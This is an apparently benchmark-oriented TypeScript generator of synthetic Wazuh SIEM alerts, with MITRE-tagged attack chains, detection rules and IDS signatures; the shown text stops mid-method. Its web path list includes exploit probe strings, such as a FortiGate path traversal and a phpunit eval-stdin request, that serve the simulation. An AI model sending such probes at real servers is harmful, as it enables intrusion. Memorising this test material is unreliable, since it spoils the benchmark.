/**
 * Synthetic Wazuh 4.x alerts.json for the benchmark: lines shaped like a real
 * manager writes them (rule with compliance tags and MITRE on some, agent,
 * decoder, data, win.eventdata/system on Windows events, syscheck, Suricata
 * EVE through Wazuh), streamed to disk in time order and fully deterministic
 * for a seed.
 *
 * What is in it, and why:
 * - background noise over ~30 days on ~2,000 hosts, ~5,000 users and ~20,000
 *   external IPs, skewed the way real fleets are (a few busy hosts and
 *   noisy internet sources), with office-hours rhythm;
 * - several hundred attack chains (brute force → login → privilege
 *   escalation → lateral movement → exfiltration) that share a user, hosts
 *   and an attacker IP over minutes to hours and carry ATT&CK ids: the
 *   ground truth the correlator should recover;
 * - hub entities that touch a large share of alerts — the DNS server
 *   10.0.0.53, a vulnerability scanner that sweeps everything at night,
 *   SYSTEM, 127.0.0.1, the IDS sensors — so hub handling is exercised.
 * `generateNewAlertsFile` writes the "new" alerts of an incremental run:
 * continuations of existing chains, a few new chains and noise, interleaved in
 * the same period.
 */
import { closeSync, openSync, writeSync } from 'node:fs';
import { mulberry32 } from '../core/prng';


class Rng {
  private readonly next: () => number;
  constructor(seed: number) {
    this.next = mulberry32(seed);
  }
  float(): number {
    return this.next();
  }
  /** Integer in [0, n). */
  int(n: number): number {
    return Math.floor(this.next() * n);
  }
  /** Integer in [lo, hi]. */
  range(lo: number, hi: number): number {
    return lo + Math.floor(this.next() * (hi - lo + 1));
  }
  chance(p: number): boolean {
    return this.next() < p;
  }
  pick<T>(items: readonly T[]): T {
    return items[Math.floor(this.next() * items.length)]!;
  }
  hex(length: number): string {
    let out = '';
    while (out.length < length) out += ((this.next() * 0x100000000) >>> 0).toString(16).padStart(8, '0');
    return out.slice(0, length);
  }
}

/** Picks indices with weight 1/(rank+1)^skew over a fixed random ranking. */
class SkewedPicker {
  private readonly cumulative: Float64Array;
  private readonly ranking: Int32Array;
  constructor(count: number, skew: number, rng: Rng) {
    this.cumulative = new Float64Array(count);
    let sum = 0;
    for (let i = 0; i < count; i++) {
      sum += 1 / Math.pow(i + 1, skew);
      this.cumulative[i] = sum;
    }
    for (let i = 0; i < count; i++) this.cumulative[i]! /= sum;
    this.ranking = new Int32Array(count);
    for (let i = 0; i < count; i++) this.ranking[i] = i;
    for (let i = count - 1; i > 0; i--) {
      const j = rng.int(i + 1);
      const tmp = this.ranking[i]!;
      this.ranking[i] = this.ranking[j]!;
      this.ranking[j] = tmp;
    }
  }
  pick(rng: Rng): number {
    const x = rng.float();
    let lo = 0;
    let hi = this.cumulative.length - 1;
    while (lo < hi) {
      const mid = (lo + hi) >>> 1;
      if (this.cumulative[mid]! < x) lo = mid + 1;
      else hi = mid;
    }
    return this.ranking[lo]!;
  }
}

// ---------------------------------------------------------------------------
// Rules, as the Wazuh ruleset (and a few local rules) define them

interface Mitre {
  id: string;
  tactic: string[];
  technique: string;
}

interface RuleDef {
  id: string;
  level: number;
  description: string;
  groups: string[];
  mitre?: Mitre[];
  compliance?: Record<string, string[]>;
}

const AUTH_COMPLIANCE = {
  pci_dss: ['10.2.4', '10.2.5'],
  gdpr: ['IV_35.7.d', 'IV_32.2'],
  hipaa: ['164.312.b'],
  nist_800_53: ['AU.14', 'AC.7'],
  tsc: ['CC6.1', 'CC6.8', 'CC7.2', 'CC7.3'],
};
const WEB_COMPLIANCE = {
  pci_dss: ['6.5', '11.4'],
  gdpr: ['IV_35.7.d'],
  nist_800_53: ['SA.11', 'SI.4'],
  tsc: ['CC6.6', 'CC7.1', 'CC8.1', 'CC6.8', 'CC7.2', 'CC7.3'],
};
const SYSCHECK_COMPLIANCE = {
  pci_dss: ['11.5'],
  gdpr: ['II_5.1.f'],
  hipaa: ['164.312.c.1', '164.312.c.2'],
  nist_800_53: ['SI.7'],
  tsc: ['PI1.4', 'PI1.5', 'CC6.1', 'CC6.8', 'CC7.2', 'CC7.3'],
};
const ROOTCHECK_COMPLIANCE = { pci_dss: ['10.6.1'], gdpr: ['IV_35.7.d'], hipaa: ['164.312.b'], nist_800_53: ['AU.6'] };

const VALID_ACCOUNTS: Mitre = { id: 'T1078', tactic: ['Defense Evasion', 'Persistence', 'Privilege Escalation', 'Initial Access'], technique: 'Valid Accounts' };
const PASSWORD_GUESSING: Mitre = { id: 'T1110.001', tactic: ['Credential Access'], technique: 'Password Guessing' };
const BRUTE_FORCE: Mitre = { id: 'T1110', tactic: ['Credential Access'], technique: 'Brute Force' };

const R = {
  sshInvalidUser: { id: '5710', level: 5, description: 'sshd: Attempt to login using a non-existent user', groups: ['syslog', 'sshd', 'authentication_failed', 'invalid_login'], mitre: [PASSWORD_GUESSING], compliance: AUTH_COMPLIANCE },
  sshFailed: { id: '5760', level: 5, description: 'sshd: authentication failed.', groups: ['syslog', 'sshd', 'authentication_failed'], mitre: [PASSWORD_GUESSING], compliance: AUTH_COMPLIANCE },
  sshBruteInvalid: { id: '5712', level: 10, description: 'sshd: brute force trying to get access to the system. Non existent user.', groups: ['syslog', 'sshd', 'authentication_failures'], mitre: [BRUTE_FORCE], compliance: AUTH_COMPLIANCE },
  sshMultipleFailures: { id: '5720', level: 10, description: 'sshd: Multiple authentication failures.', groups: ['syslog', 'sshd', 'authentication_failures'], mitre: [BRUTE_FORCE], compliance: AUTH_COMPLIANCE },
  sshSuccess: { id: '5715', level: 3, description: 'sshd: authentication success.', groups: ['syslog', 'sshd', 'authentication_success'], mitre: [VALID_ACCOUNTS], compliance: AUTH_COMPLIANCE },
  sshScan: { id: '5706', level: 6, description: 'sshd: insecure connection attempt (scan).', groups: ['syslog', 'sshd', 'recon'], mitre: [{ id: 'T1190', tactic: ['Initial Access'], technique: 'Exploit Public-Facing Application' }], compliance: { pci_dss: ['11.4'], gdpr: ['IV_35.7.d'] } },
  pamSession: { id: '5501', level: 3, description: 'PAM: Login session opened.', groups: ['pam', 'syslog', 'authentication_success'], mitre: [VALID_ACCOUNTS], compliance: AUTH_COMPLIANCE },
  sudoRoot: { id: '5402', level: 3, description: 'Successful sudo to ROOT executed.', groups: ['syslog', 'sudo'], mitre: [{ id: 'T1548.003', tactic: ['Privilege Escalation', 'Defense Evasion'], technique: 'Sudo and Sudo Caching' }], compliance: { pci_dss: ['10.2.5', '10.2.2'], gdpr: ['IV_32.2'] } },
  sudoFirstTime: { id: '5403', level: 4, description: 'First time user executed sudo.', groups: ['syslog', 'sudo'], mitre: [{ id: 'T1548.003', tactic: ['Privilege Escalation', 'Defense Evasion'], technique: 'Sudo and Sudo Caching' }], compliance: { pci_dss: ['10.2.5', '10.2.2'], gdpr: ['IV_32.2'] } },
  shadowRead: { id: '100110', level: 12, description: 'Sudo used to read /etc/shadow: possible credential dumping.', groups: ['local', 'syslog', 'sudo'], mitre: [{ id: 'T1003.008', tactic: ['Credential Access'], technique: '/etc/passwd and /etc/shadow' }] },
  userAdded: { id: '5902', level: 8, description: 'New user added to the system.', groups: ['syslog', 'adduser'], mitre: [{ id: 'T1136.001', tactic: ['Persistence'], technique: 'Local Account' }], compliance: { pci_dss: ['10.2.7', '10.6.1', '8.1.2'], gdpr: ['IV_35.7.d', 'IV_32.2'] } },
  winLogonFailure: { id: '60122', level: 5, description: 'Logon Failure - Unknown user or bad password', groups: ['windows', 'windows_security', 'win_authentication_failed'], mitre: [{ id: 'T1531', tactic: ['Impact'], technique: 'Account Access Removal' }], compliance: AUTH_COMPLIANCE },
  winMultipleFailures: { id: '60204', level: 10, description: 'Multiple Windows Logon Failures', groups: ['windows', 'windows_security', 'authentication_failures'], mitre: [BRUTE_FORCE], compliance: AUTH_COMPLIANCE },
  winLogonSuccess: { id: '60106', level: 3, description: 'Windows Logon Success', groups: ['windows', 'windows_security', 'authentication_success'], mitre: [VALID_ACCOUNTS], compliance: AUTH_COMPLIANCE },
  winPassTheHash: { id: '92652', level: 6, description: 'Successful Remote Logon Detected - NTLM authentication, possible pass-the-hash attack.', groups: ['windows', 'windows_security', 'authentication_success'], mitre: [{ id: 'T1550.002', tactic: ['Defense Evasion', 'Lateral Movement'], technique: 'Pass the Hash' }] },
  winAdminGroup: { id: '60154', level: 12, description: 'Administrators Group Changed', groups: ['windows', 'windows_security', 'group_changed', 'win_group_changed'], mitre: [{ id: 'T1098', tactic: ['Persistence', 'Privilege Escalation'], technique: 'Account Manipulation' }], compliance: { pci_dss: ['10.2.5'], gdpr: ['IV_32.2'] } },
  sysmonProcess: { id: '61603', level: 3, description: 'Sysmon - Event 1: Process creation', groups: ['windows', 'sysmon', 'sysmon_event1'] },
  encodedPowershell: { id: '92057', level: 12, description: 'Powershell.exe spawned a powershell process which executed a base64 encoded command', groups: ['windows', 'sysmon', 'sysmon_eid1_detections'], mitre: [{ id: 'T1059.001', tactic: ['Execution'], technique: 'PowerShell' }] },
  lsassDump: { id: '92900', level: 12, description: 'Lsass process was accessed by rundll32.exe with comsvcs.dll: possible credential dumping', groups: ['windows', 'sysmon', 'sysmon_eid10_detections'], mitre: [{ id: 'T1003.001', tactic: ['Credential Access'], technique: 'LSASS Memory' }] },
  psexec: { id: '92651', level: 12, description: 'PsExec service launched: possible lateral movement', groups: ['windows', 'sysmon', 'sysmon_eid1_detections'], mitre: [{ id: 'T1569.002', tactic: ['Execution'], technique: 'Service Execution' }, { id: 'T1021.002', tactic: ['Lateral Movement'], technique: 'SMB/Windows Admin Shares' }] },
  rclone: { id: '100230', level: 13, description: 'Rclone executed with a cloud remote: possible data exfiltration', groups: ['local', 'windows', 'sysmon'], mitre: [{ id: 'T1567.002', tactic: ['Exfiltration'], technique: 'Exfiltration to Cloud Storage' }] },
  suricata: { id: '86601', level: 3, description: 'Suricata: Alert - ', groups: ['ids', 'suricata'] },
  exfilTransfer: { id: '100210', level: 12, description: 'Suricata: large outbound transfer to a rare external address: possible exfiltration', groups: ['local', 'ids', 'suricata'], mitre: [{ id: 'T1048', tactic: ['Exfiltration'], technique: 'Exfiltration Over Alternative Protocol' }] },
  web400: { id: '31101', level: 5, description: 'Web server 400 error code.', groups: ['web', 'accesslog', 'attack'], compliance: WEB_COMPLIANCE },
  webScan: { id: '31151', level: 10, description: 'Multiple web server 400 error codes from same source ip.', groups: ['web', 'accesslog', 'web_scan', 'recon'], mitre: [{ id: 'T1595.002', tactic: ['Reconnaissance'], technique: 'Vulnerability Scanning' }], compliance: WEB_COMPLIANCE },
  syscheckChanged: { id: '550', level: 7, description: 'Integrity checksum changed.', groups: ['ossec', 'syscheck', 'syscheck_entry_modified', 'syscheck_file'], mitre: [{ id: 'T1565.001', tactic: ['Impact'], technique: 'Stored Data Manipulation' }], compliance: SYSCHECK_COMPLIANCE },
  rootcheck: { id: '510', level: 7, description: 'Host-based anomaly detection event (rootcheck).', groups: ['ossec', 'rootcheck'], compliance: ROOTCHECK_COMPLIANCE },
} satisfies Record<string, RuleDef>;

// ---------------------------------------------------------------------------
// The world: hosts, users, addresses, binaries, domains

type HostRole = 'wks' | 'srv' | 'web' | 'dc' | 'ids';

interface Host {
  agentId: string;
  name: string;
  ip: string;
  role: HostRole;
  windows: boolean;
  fqdn: string;
}

interface Binary {
  image: string;
  description: string;
  product: string;
  company: string;
  originalFileName: string;
  hashes: string[];
  parent: string;
  commandLines: string[];
  system: boolean;
}

export const DNS_SERVER = '10.0.0.53';
export const SCANNER_IP = '10.0.50.10';
const MANAGER = 'wazuh-manager-01';
const DAY_MS = 86_400_000;

const FIRST_NAMES = 'james mary robert patricia john jennifer michael linda david elizabeth william barbara richard susan joseph jessica thomas sarah charles karen christopher lisa daniel nancy matthew betty anthony margaret mark sandra donald ashley steven kimberly paul emily andrew donna joshua michelle kenneth carol kevin amanda brian dorothy george melissa timothy deborah ronald stephanie edward rebecca jason sharon jeffrey laura ryan cynthia jacob kathleen gary amy nicholas angela eric shirley jonathan anna stephen brenda larry pamela justin emma scott nicole brandon helen benjamin samantha samuel katherine raymond christine gregory debra frank rachel alexander carolyn patrick janet jack catherine dennis maria jerry heather tyler diane aaron ruth'.split(' ');
const LAST_NAMES = 'smith johnson williams brown jones garcia miller davis rodriguez martinez hernandez lopez gonzalez wilson anderson thomas taylor moore jackson martin lee perez thompson white harris sanchez clark ramirez lewis robinson walker young allen king wright scott torres nguyen hill flores green adams nelson baker hall rivera campbell mitchell carter roberts gomez phillips evans turner diaz parker cruz edwards collins reyes stewart morris morales murphy cook rogers gutierrez ortiz morgan cooper peterson bailey reed kelly howard ramos kim cox ward richardson watson brooks chavez wood james bennett gray mendoza ruiz hughes price alvarez castillo sanders patel myers long ross foster jimenez'.split(' ');
const INVALID_USERS = ['admin', 'root', 'test', 'user', 'oracle', 'ubuntu', 'postgres', 'git', 'ftpuser', 'guest', 'deploy', 'pi', 'support', 'mysql', 'hadoop', 'jenkins', 'nagios', 'tomcat', 'administrator', 'www-data', 'dev', 'ansible', 'minecraft', 'teamspeak'];
const SUSPICIOUS_TLDS = ['top', 'xyz', 'cc', 'tk', 'ru', 'info', 'biz', 'club', 'online', 'site', 'pw', 'ddns.net', 'duckdns.org', 'no-ip.org'];
const DNS_SIGNATURES: Array<[number, string, string]> = [
  [2027757, 'ET DNS Query for .to TLD', 'Potentially Bad Traffic'],
  [2023883, 'ET DNS Query to a *.top domain - Likely Hostile', 'Potentially Bad Traffic'],
  [2027758, 'ET DNS Query for .cc TLD', 'Potentially Bad Traffic'],
  [2014702, 'ET DNS Non-DNS or Non-Compliant DNS traffic on DNS port Opcode 6 or 7 set', 'Potentially Bad Traffic'],
  [2022918, 'ET POLICY DNS Query to DynDNS Domain *.ddns .net', 'Potentially Bad Traffic'],
  [2027863, 'ET INFO Observed DNS Query to .cloud TLD', 'Potentially Bad Traffic'],
  [2016778, 'ET DNS Query to a *.pw domain - Likely Hostile', 'Potentially Bad Traffic'],
];
const POLICY_SIGNATURES: Array<[number, string, string]> = [
  [2013028, 'ET POLICY curl User-Agent Outbound', 'Attempted Information Leak'],
  [2013504, 'ET POLICY GNU/Linux APT User-Agent Outbound likely related to package management', 'Not Suspicious Traffic'],
  [2001219, 'ET SCAN Potential SSH Scan', 'Attempted Information Leak'],
  [2010937, 'ET SCAN Suspicious inbound to mySQL port 3306', 'Potentially Bad Traffic'],
  [2403302, 'ET CINS Active Threat Intelligence Poor Reputation IP group 3', 'Misc Attack'],
  [2402000, 'ET DROP Dshield Block Listed Source', 'Misc Attack'],
];
const SCANNER_SIGNATURES: Array<[number, string, string]> = [
  [2000537, 'ET SCAN NMAP -sS window 1024', 'Attempted Information Leak'],
  [2002664, 'ET SCAN Nessus User Agent', 'Web Application Attack'],
  [2009582, 'ET SCAN NMAP -sA (1)', 'Attempted Information Leak'],
  [2024364, 'ET SCAN Possible Nmap User-Agent Observed', 'Web Application Attack'],
];
const WEB_PATHS = ['/wp-login.php', '/.env', '/admin/config.php', '/phpmyadmin/index.php', '/cgi-bin/luci', '/.git/config', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/actuator/health', '/HNAP1/', '/boaform/admin/formLogin', '/solr/admin/info/system', '/api/v1/users?page=2', '/static/js/app.8f3a1.js', '/favicon.ico', '/robots.txt', '/owa/auth/logon.aspx', '/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession', '/console/login/LoginForm.jsp', '/manager/html', '/xmlrpc.php'];
const USER_AGENTS = ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.0.0 Safari/537.36', 'curl/7.88.1', 'python-requests/2.31.0', 'Go-http-client/1.1', 'Mozilla/5.0 zgrab/0.x', 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)', 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)'];
const LINUX_FILES = ['/etc/passwd', '/etc/shadow', '/etc/group', '/etc/hosts', '/etc/ssh/sshd_config', '/etc/sudoers', '/etc/crontab', '/usr/bin/sudo', '/usr/sbin/sshd', '/etc/nginx/nginx.conf', '/etc/resolv.conf', '/usr/lib/systemd/system/cron.service', '/etc/pam.d/common-auth', '/bin/ls', '/usr/bin/curl'];
const WINDOWS_FILES = ['c:\\windows\\system32\\drivers\\etc\\hosts', 'c:\\windows\\system32\\wbem\\wmiprvse.exe', 'c:\\windows\\regedit.exe', 'c:\\windows\\system32\\lsass.exe', 'c:\\windows\\system32\\svchost.exe', 'c:\\programdata\\microsoft\\windows\\start menu\\programs\\startup\\desktop.ini', 'c:\\windows\\system32\\tasks\\microsoft\\windows\\updateorchestrator\\schedule scan'];
const ROOTCHECK_FINDINGS: Array<[string, string]> = [
  ['Trojaned version of file detected.', '/usr/bin/diff'],
  ['Process running but hidden from /proc.', '/proc/31337'],
  ['Port is open but hidden from netstat.', 'tcp 6666'],
  ['File present in /dev: possible rootkit.', '/dev/.udev/rules.d'],
  ['System Audit: SSH Hardening - 3: Root can log in.', '/etc/ssh/sshd_config'],
  ['Files hidden inside directory.', '/tmp/.ICE-unix'],
];
const SUDO_COMMANDS = ['/usr/bin/systemctl restart nginx', '/usr/bin/apt-get update', '/usr/bin/journalctl -u sshd --since today', '/usr/bin/docker ps', '/usr/bin/tail -n 200 /var/log/syslog', '/usr/sbin/service postgresql reload', '/usr/bin/vim /etc/nginx/sites-enabled/default'];

const SYSTEM_BINARIES: Array<[string, string, string]> = [
  ['C:\\Windows\\System32\\svchost.exe', 'Host Process for Windows Services', 'svchost.exe -k netsvcs -p -s Schedule'],
  ['C:\\Windows\\System32\\wbem\\WmiPrvSE.exe', 'WMI Provider Host', 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding'],
  ['C:\\Windows\\servicing\\TrustedInstaller.exe', 'Windows Modules Installer', 'C:\\Windows\\servicing\\TrustedInstaller.exe'],
  ['C:\\Windows\\WinSxS\\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.19041.3745_none_7e11bd0b1b4f0ee9\\TiWorker.exe', 'Windows Modules Installer Worker', 'C:\\Windows\\winsxs\\amd64_microsoft-windows-servicingstack\\TiWorker.exe -Embedding'],
  ['C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.23110.3-0\\MsMpEng.exe', 'Antimalware Service Executable', '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.23110.3-0\\MsMpEng.exe"'],
  ['C:\\Windows\\System32\\conhost.exe', 'Console Window Host', '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1'],
  ['C:\\Windows\\System32\\taskhostw.exe', 'Host Process for Windows Tasks', 'taskhostw.exe SYSTEM'],
  ['C:\\Windows\\System32\\SearchIndexer.exe', 'Microsoft Windows Search Indexer', 'C:\\Windows\\system32\\SearchIndexer.exe /Embedding'],
  ['C:\\Windows\\System32\\sppsvc.exe', 'Microsoft Software Protection Platform Service', 'C:\\Windows\\system32\\sppsvc.exe'],
  ['C:\\Windows\\System32\\gpupdate.exe', 'Microsoft Group Policy Update Utility', 'gpupdate.exe /target:computer'],
  ['C:\\Windows\\System32\\sc.exe', 'Service Control Manager Configuration Tool', 'sc.exe start wuauserv'],
  ['C:\\Program Files\\Wazuh\\wazuh-agent.exe', 'Wazuh Windows Agent', '"C:\\Program Files (x86)\\ossec-agent\\wazuh-agent.exe"'],
];
const USER_BINARIES: Array<[string, string, string]> = [
  ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', 'Google Chrome', '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --display-capture-permissions-policy-allowed'],
  ['C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe', 'Microsoft Edge', '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService'],
  ['C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', 'Microsoft Outlook', '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" /recycle'],
  ['C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', 'Microsoft Word', '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\Public\\Documents\\Q1 report.docx"'],
  ['C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE', 'Microsoft Excel', '"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE"'],
  ['C:\\Windows\\explorer.exe', 'Windows Explorer', 'C:\\Windows\\Explorer.EXE'],
  ['C:\\Windows\\System32\\notepad.exe', 'Notepad', '"C:\\Windows\\system32\\NOTEPAD.EXE" C:\\Users\\Public\\todo.txt'],
  ['C:\\Windows\\System32\\cmd.exe', 'Windows Command Processor', '"C:\\Windows\\system32\\cmd.exe" /c ipconfig /all'],
  ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'Windows PowerShell', '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoProfile -Command Get-Service'],
  ['C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe', 'Microsoft OneDrive', '"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe" /background'],
  ['C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe', 'Adobe Acrobat', '"C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe" "C:\\Users\\Public\\Downloads\\invoice.pdf"'],
  ['C:\\Program Files\\WindowsApps\\MSTeams_23320.3021.2567.4799_x64__8wekyb3d8bbwe\\ms-teams.exe', 'Microsoft Teams', '"C:\\Program Files\\WindowsApps\\MSTeams\\ms-teams.exe" msteams:system-initiated'],
  ['C:\\Program Files\\Zoom\\bin\\Zoom.exe', 'Zoom Meetings', '"C:\\Program Files\\Zoom\\bin\\Zoom.exe" --action=preload'],
  ['C:\\Program Files\\Slack\\slack.exe', 'Slack', '"C:\\Program Files\\Slack\\slack.exe" --process-start-args --startup'],
];

interface World {
  hosts: Host[];
  windowsHosts: number[];
  linuxHosts: number[];
  webHosts: number[];
  dcs: number[];
  sensors: number[];
  users: string[];
  externalIps: string[];
  domains: string[];
  systemBinaries: Binary[];
  userBinaries: Binary[];
  hostPicker: { windows: SkewedPicker; linux: SkewedPicker; web: SkewedPicker };
  userPicker: SkewedPicker;
  ipPicker: SkewedPicker;
  domainPicker: SkewedPicker;
}

function publicIp(rng: Rng): string {
  for (;;) {
    const a = rng.range(1, 223);
    if (a === 10 || a === 127 || a === 100 || a === 169 || a === 172 || a === 192 || a === 0) continue;
    return `${a}.${rng.int(256)}.${rng.int(256)}.${rng.range(1, 254)}`;
  }
}

function buildWorld(seed: number, hostCount: number, userCount: number, ipCount: number): World {
  const rng = new Rng(seed ^ 0x5eed);
  const hosts: Host[] = [];
  const add = (name: string, role: HostRole, windows: boolean, ip: string) => {
    const agentId = String(hosts.length + 1).padStart(3, '0');
    hosts.push({ agentId, name, ip, role, windows, fqdn: windows ? `${name.toUpperCase()}.corp.example.com` : name });
  };
  const ids = 4;
  const dcs = 2;
  const web = Math.max(2, Math.round(hostCount * 0.03));
  const srv = Math.max(2, Math.round(hostCount * 0.22));
  const wks = Math.max(2, hostCount - ids - dcs - web - srv);
  for (let i = 1; i <= dcs; i++) add(`dc0${i}`, 'dc', true, `10.0.1.${10 + i}`);
  for (let i = 1; i <= ids; i++) add(`ids-sensor-0${i}`, 'ids', false, `10.0.2.${10 + i}`);
  for (let i = 1; i <= web; i++) add(`web-${String(i).padStart(3, '0')}`, 'web', false, `10.10.${100 + Math.floor(i / 250)}.${(i % 250) + 1}`);
  for (let i = 1; i <= srv; i++) add(`srv-${String(i).padStart(4, '0')}`, 'srv', false, `10.10.${Math.floor(i / 250)}.${(i % 250) + 1}`);
  for (let i = 1; i <= wks; i++) add(`wks-${String(i).padStart(4, '0')}`, 'wks', true, `10.20.${Math.floor(i / 250)}.${(i % 250) + 1}`);
  const idx = (pred: (h: Host) => boolean) => hosts.flatMap((h, i) => (pred(h) ? [i] : []));
  const windowsHosts = idx((h) => h.role === 'wks');
  const linuxHosts = idx((h) => h.role === 'srv' || h.role === 'web');
  const webHosts = idx((h) => h.role === 'web');

  const users: string[] = [];
  const seen = new Set<string>();
  while (users.length < userCount) {
    let name = `${rng.pick(FIRST_NAMES)}.${rng.pick(LAST_NAMES)}`;
    if (seen.has(name)) name += String(rng.range(1, 99));
    if (seen.has(name)) continue;
    seen.add(name);
    users.push(name);
  }
  const externalIps: string[] = [];
  const seenIps = new Set<string>();
  while (externalIps.length < ipCount) {
    const ip = publicIp(rng);
    if (!seenIps.has(ip)) {
      seenIps.add(ip);
      externalIps.push(ip);
    }
  }
  const domains: string[] = [];
  for (let i = 0; i < 5000; i++) {
    const label = rng.hex(rng.range(6, 14)).replace(/[0-9]/g, (d) => 'ghijklmnop'[Number(d)]!);
    domains.push(`${label}.${rng.pick(SUSPICIOUS_TLDS)}`);
  }
  const binary = (spec: [string, string, string], system: boolean, parent: string): Binary => {
    const file = spec[0].slice(spec[0].lastIndexOf('\\') + 1);
    const builds = rng.range(1, 3);
    const hashes: string[] = [];
    for (let b = 0; b < builds; b++) hashes.push(`SHA1=${rng.hex(40).toUpperCase()},MD5=${rng.hex(32).toUpperCase()},SHA256=${rng.hex(64).toUpperCase()},IMPHASH=${rng.hex(32).toUpperCase()}`);
    return { image: spec[0], description: spec[1], product: 'Microsoft® Windows® Operating System', company: 'Microsoft Corporation', originalFileName: file, hashes, parent, commandLines: [spec[2]], system };
  };
  const systemBinaries = SYSTEM_BINARIES.map((s) => binary(s, true, 'C:\\Windows\\System32\\services.exe'));
  const userBinaries = USER_BINARIES.map((s) => binary(s, false, 'C:\\Windows\\explorer.exe'));
  return {
    hosts,
    windowsHosts,
    linuxHosts,
    webHosts,
    dcs: idx((h) => h.role === 'dc'),
    sensors: idx((h) => h.role === 'ids'),
    users,
    externalIps,
    domains,
    systemBinaries,
    userBinaries,
    hostPicker: { windows: new SkewedPicker(windowsHosts.length, 0.6, rng), linux: new SkewedPicker(linuxHosts.length, 0.6, rng), web: new SkewedPicker(webHosts.length, 0.5, rng) },
    userPicker: new SkewedPicker(users.length, 0.5, rng),
    ipPicker: new SkewedPicker(externalIps.length, 0.8, rng),
    domainPicker: new SkewedPicker(domains.length, 0.9, rng),
  };
}

// ---------------------------------------------------------------------------
// Time

/**
 * Maps a uniform position in [0, 1) to a time in the period with an office-
 * hours rhythm and the nightly scan window, preserving order (so a sorted
 * stream of positions is a sorted stream of times).
 */
class Timeline {
  private readonly cumulative: Float64Array;
  private cursor = 0;
  constructor(
    readonly startMs: number,
    readonly days: number,
  ) {
    const hours = days * 24;
    this.cumulative = new Float64Array(hours + 1);
    let sum = 0;
    for (let h = 0; h < hours; h++) {
      sum += Timeline.density(startMs + h * 3_600_000);
      this.cumulative[h + 1] = sum;
    }
    for (let h = 0; h <= hours; h++) this.cumulative[h]! /= sum;
  }

  /** Relative alert volume in the hour starting at `t`. */
  static density(t: number): number {
    const d = new Date(t);
    const hour = d.getUTCHours();
    const weekend = d.getUTCDay() === 0 || d.getUTCDay() === 6;
    const base = weekend ? 0.45 : hour >= 7 && hour < 19 ? 1 : 0.4;
    return base + (Timeline.inScanWindow(t) ? SCAN_EXTRA : 0);
  }

  static inScanWindow(t: number): boolean {
    const hour = new Date(t).getUTCHours();
    return hour >= 0 && hour < 4;
  }

  /** Time at position x; calls must come with non-decreasing x. */
  at(x: number): number {
    const c = this.cumulative;
    while (this.cursor < c.length - 2 && c[this.cursor + 1]! <= x) this.cursor++;
    const lo = c[this.cursor]!;
    const hi = c[this.cursor + 1]!;
    const frac = hi > lo ? (x - lo) / (hi - lo) : 0;
    return Math.floor(this.startMs + (this.cursor + frac) * 3_600_000);
  }
}

/** Extra volume the nightly vulnerability scan adds per hour of the window. */
const SCAN_EXTRA = 0.5;

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const pad2 = (n: number) => (n < 10 ? '0' : '') + n;

/** `2026-03-04T13:55:05.224+0000`, as alerts.json writes it. */
function wazuhTimestamp(t: number): string {
  return new Date(t).toISOString().slice(0, 23) + '+0000';
}

/** `Mar  4 13:55:05`, the syslog header. */
function syslogTimestamp(t: number): string {
  const d = new Date(t);
  const day = d.getUTCDate();
  return `${MONTHS[d.getUTCMonth()]} ${day < 10 ? ' ' : ''}${day} ${pad2(d.getUTCHours())}:${pad2(d.getUTCMinutes())}:${pad2(d.getUTCSeconds())}`;
}

/** `04/Mar/2026:13:55:05 +0000`, the access-log time. */
function accessLogTimestamp(t: number): string {
  const d = new Date(t);
  return `${pad2(d.getUTCDate())}/${MONTHS[d.getUTCMonth()]}/${d.getUTCFullYear()}:${pad2(d.getUTCHours())}:${pad2(d.getUTCMinutes())}:${pad2(d.getUTCSeconds())} +0000`;
}

// ---------------------------------------------------------------------------
// Writing alerts

type Alert = Record<string, unknown>;

/** Streams alert objects to an NDJSON file in ~4 MiB writes, assigning Wazuh ids. */
class AlertFileWriter {
  private readonly fd: number;
  private pending: string[] = [];
  private pendingChars = 0;
  lines = 0;
  bytes = 0;
  private readonly firedTimes = new Map<string, number>();

  constructor(
    path: string,
    /** Offset the alert ids start from (Wazuh ids are `<epoch s>.<file offset>`). */
    private offset: number,
  ) {
    this.fd = openSync(path, 'w');
  }

  /** The id the next alert will get. */
  nextId(t: number): string {
    return `${Math.floor(t / 1000)}.${this.offset}`;
  }

  fired(ruleId: string): number {
    const n = (this.firedTimes.get(ruleId) ?? 0) + 1;
    this.firedTimes.set(ruleId, n);
    return n;
  }

  write(alert: Alert): void {
    const line = JSON.stringify(alert) + '\n';
    this.pending.push(line);
    this.pendingChars += line.length;
    this.lines++;
    this.offset += line.length;
    if (this.pendingChars >= 4 << 20) this.flush();
  }

  private flush(): void {
